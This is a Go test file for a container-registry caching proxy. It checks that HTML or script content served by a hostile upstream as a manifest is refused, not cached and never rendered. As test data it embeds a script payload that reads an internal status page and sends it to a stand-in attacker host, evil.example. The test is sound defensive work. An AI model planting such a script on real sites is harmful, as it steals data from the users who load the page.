package adversarial

import (
	"io"
	"net/http"
	"net/http/httputil"
	"net/url"
	"strings"
	"testing"

	"github.com/opencontainers/go-digest"

	"github.com/regcache/regcache/internal/testhub"
)

// Attacks through content types (issue 13, item 12): an upstream that
// serves a "manifest" as text/html with a script in it, or real content
// under a browser-renderable type, must not get a browser to render
// anything from regcache's origin.

// passWith proxies to the real registry and lets edit change the answer's
// headers.
func (h *hostile) passWith(edit func(http.Header)) http.HandlerFunc {
	bu, _ := url.Parse(h.Backend.URL)
	p := httputil.NewSingleHostReverseProxy(bu)
	p.Transport = h.proxy.Transport
	p.ErrorLog = h.proxy.ErrorLog
	p.ModifyResponse = func(resp *http.Response) error { edit(resp.Header); return nil }
	return p.ServeHTTP
}

func TestUpstreamContentTypesAreNotPassedOn(t *testing.T) {
	t.Parallel()
	h := startHostile(t)
	img := h.Backend.PushImage(t, "team/app", "v1", testhub.ImageOptions{})
	rc := startRegcache(t, registryConfig(h.URL, ""))
	c := rc.Client

	// A page with a script, served as a manifest would be, by tag and by
	// its digest, with a digest header that matches it.
	page := "<html><body><script>fetch('/_regcache/status').then(r => r.text()).then(t => new Image().src = 'https://evil.example/?' + btoa(t))</script></body></html>"
	pageDigest := digest.FromString(page)
	servePage := func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Header().Set("Docker-Content-Digest", pageDigest.String())
		if r.Method == http.MethodGet {
			io.WriteString(w, page)
		}
	}
	h.on("", "/v2/team/app/manifests/page", servePage)
	h.on("", "/v2/team/app/manifests/"+pageDigest.String(), servePage)
	// Real content, under browser types.
	asHTML := h.passWith(func(hdr http.Header) { hdr.Set("Content-Type", "text/html") })
	h.on("", "/v2/team/app/manifests/v1", asHTML)
	h.on("", "/v2/team/app/manifests/"+img.Digest.String(), asHTML)
	h.on("", "/v2/team/app/blobs/"+img.Layers[0].String(), asHTML)
	h.on("", "/v2/team/app/tags/list", h.passWith(func(hdr http.Header) { hdr.Set("Content-Type", "text/html") }))

	base := rc.URL + "/v2/hostile.example/team/app"
	accept := http.Header{"Accept": {acceptManifests}}
	for _, ref := range []string{"page", pageDigest.String()} {
		resp, body := call(t, c, "GET", base+"/manifests/"+ref, accept)
		ociErrorBody(t, "the page as manifest "+ref, resp, body, http.StatusBadGateway)
		if strings.Contains(string(body), "<script") {
			t.Errorf("the page reached the client: %s", body)
		}
	}
	resp, body := call(t, c, "GET", base+"/manifests/v1", accept)
	if resp.StatusCode != 200 || resp.Header.Get("Content-Type") != img.MediaType || string(body) != string(img.Manifest) {
		t.Errorf("a real manifest served as text/html: %d %q, want it as %s", resp.StatusCode, resp.Header.Get("Content-Type"), img.MediaType)
	}
	// Nothing was cached of the page: asked again, it is refused again.
	before := h.count("GET /v2/team/app/manifests/")
	resp, body = call(t, c, "GET", base+"/manifests/page", accept)
	ociErrorBody(t, "the page asked again", resp, body, http.StatusBadGateway)
	if h.count("GET /v2/team/app/manifests/") == before {
		t.Error("the page was answered from the cache")
	}

	// Every answer regcache gives, of every kind and outcome, says nosniff;
	// none of the registry API's is HTML (regcache's own pages may be).
	cases := []struct{ method, path string }{
		{"GET", "/v2/"},
		{"GET", "/v2/hostile.example/team/app/manifests/v1"},
		{"HEAD", "/v2/hostile.example/team/app/manifests/v1"},
		{"GET", "/v2/hostile.example/team/app/manifests/" + img.Digest.String()},
		{"GET", "/v2/hostile.example/team/app/manifests/page"},
		{"GET", "/v2/hostile.example/team/app/manifests/missing"},
		{"GET", "/v2/hostile.example/team/app/blobs/" + img.Layers[0].String()},
		{"HEAD", "/v2/hostile.example/team/app/blobs/" + img.Layers[0].String()},
		{"GET", "/v2/hostile.example/team/app/blobs/" + img.Config.String()},
		{"GET", "/v2/hostile.example/team/app/blobs/" + digest.FromString("missing").String()},
		{"GET", "/v2/hostile.example/team/app/tags/list"},
		{"GET", "/v2/hostile.example/team/app/tags/list?n=x"},
		{"GET", "/v2/hostile.example/team/app/referrers/" + img.Digest.String()},
		{"GET", "/v2/unknown.example/team/app/manifests/v1"},
		{"GET", "/v2/hostile.example/Team/../app/manifests/v1"},
		{"DELETE", "/v2/hostile.example/team/app/manifests/v1"},
		{"POST", "/v2/hostile.example/team/app/blobs/uploads/"},
		{"GET", "/"},
		{"GET", "/index.html"},
		{"GET", "/healthz"},
		{"GET", "/readyz"},
		{"GET", "/metrics"},
		{"GET", "/_regcache/status"},
		{"GET", "/_regcache/"},
		{"GET", "/_regcache/token?service=regcache"},
	}
	for _, tc := range cases {
		resp, body := call(t, c, tc.method, rc.URL+tc.path, accept)
		if resp.Header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s %s: %d without X-Content-Type-Options: nosniff", tc.method, tc.path, resp.StatusCode)
		}
		if ct := resp.Header.Get("Content-Type"); strings.HasPrefix(tc.path, "/v2/") && (strings.Contains(ct, "html") || strings.Contains(string(body), "<script")) {
			t.Errorf("%s %s: %d %q %.100s", tc.method, tc.path, resp.StatusCode, ct, body)
		}
	}
}
